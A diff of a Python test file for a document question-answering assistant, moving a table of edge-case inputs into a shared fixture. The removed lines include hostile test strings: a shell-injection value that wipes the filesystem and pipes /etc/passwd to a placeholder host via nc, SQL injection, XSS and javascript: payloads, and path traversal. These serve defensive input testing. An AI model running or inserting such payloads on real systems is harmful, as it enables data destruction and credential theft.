@@ -18,47 +18,13 @@ from assistant.errors import AssistantError, ModelError, QuestionError
 from assistant.records import Answer
 from assistant.search.answer import render_markdown, render_text
 
-from .conftest import ROOT, FakeEncoder, write
+from .conftest import QUESTIONS, ROOT, FakeEncoder, assert_one_clear_sentence, write
 
 DOCS = {
     "wic.txt": "世界互联网大会\n世界互联网大会国际组织于2022年7月12日在北京正式成立，总部设在中国北京。\n"
     "目前国际组织已有来自25个国家和地区的近130家会员单位加入。\n",
     "food.md": "# Cooking notes\n\nSourdough bread needs a starter, flour, water and salt; bake it at 230 degrees.\n\n"
     "Green tea is brewed at 80 degrees for two minutes.\n",
-}
-
-# name: (question, expected) where expected is a source that must come first, "answer" (any well-formed
-# answer, found or not), or ("error", words the one-sentence message must contain).
-QUESTIONS = {
-    "empty": ("", ("error", "empty")),
-    "whitespace": (" \t\n\u3000\u00a0 \r\n", ("error", "empty")),
-    "only NUL": ("\x00\x00\x00", ("error", "empty")),
-    "only control": ("\x01\x02\x1b\x7f", ("error", "empty")),
-    "100,000 CJK characters": ("乌镇" * 50_000, ("error", "shorten")),
-    "100,000 ASCII characters": ("why " * 25_000, ("error", "shorten")),
-    "2001 characters": ("峰" * 2001, ("error", "shorten")),
-    "2000 characters": ("峰" * 2000, "answer"),
-    "one 1999-letter word": ("A" * 1999, "answer"),
-    "only punctuation": ("?!。，、；：…——!!!???", ("error", "no words")),
-    "only emoji": ("😀🎉🔥👍🏽👨‍👩‍👧", ("error", "no words")),
-    "zero-width characters": ("\u200b\u200c\u200d\ufeff", ("error", "no words")),
-    "private-use characters": ("\ue000\uf8ff", ("error", "no words")),
-    "combining marks": ("e\u0301" * 500, "answer"),
-    "terminal escapes": ("\x01\x02\x1b[2J\x1b[31m世界互联网大会\x7f", "wic.txt"),
-    "NUL bytes inside": ("世界\x00互联网\x00大会\x00", "wic.txt"),
-    "lone surrogate": ("世界\ud800互联网大会\udcff", "wic.txt"),
-    "right-to-left override": ("\u202e世界互联网大会\u202c 是什么时候成立的?", "wic.txt"),
-    "mixed scripts": ("世界互联网大会 WIC Всемирная конференция مؤتمر 한국어 にほんご ελληνικά", "answer"),
-    "traditional Chinese": ("世界網際網路大會國際組織何時成立?", "answer"),
-    "SQL injection": ("'; DROP TABLE passages; -- 世界互联网大会", "wic.txt"),
-    "SQL tautology": ("sourdough' OR '1'='1", "food.md"),
-    "shell injection": ("$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1337; sourdough", "food.md"),
-    "HTML injection": ("<script>alert('x')</script><img src=x onerror=alert(1)> sourdough bread", "food.md"),
-    "Markdown injection": ("[click](javascript:alert(1)) ![x](http://127.0.0.1:1/x.png) **green tea** `x`", "food.md"),
-    "format strings": ("%s%s%n%x {0} {__class__} ${HOME} {{7*7}} green tea", "food.md"),
-    "path traversal": ("../../etc/passwd", "answer"),
-    "JSON": ('{"question": null, "top_k": -1}', "answer"),
-    "1500 newlines": ("\n" * 1500 + "green tea?", "food.md"),
 }
 
 
@@ -75,14 +41,6 @@ def bot(corpus, tmp_path_factory):
     bot = Assistant(corpus, encoder=FakeEncoder(), index_root=tmp_path_factory.mktemp("emb"))
     bot.refresh()
     return bot
-
-
-def assert_one_clear_sentence(message: str, *words: str) -> None:
-    """A message a user can act on: one line, short, no traceback, naming the problem."""
-    assert message.strip() and "\n" not in message.strip(), message
-    assert len(message) < 300 and "Traceback" not in message and "Error(" not in message, message
-    for word in words:
-        assert word in message, message
 
 
 def assert_well_formed(answer: Answer, bot: Assistant, *, k: int = 5) -> None:
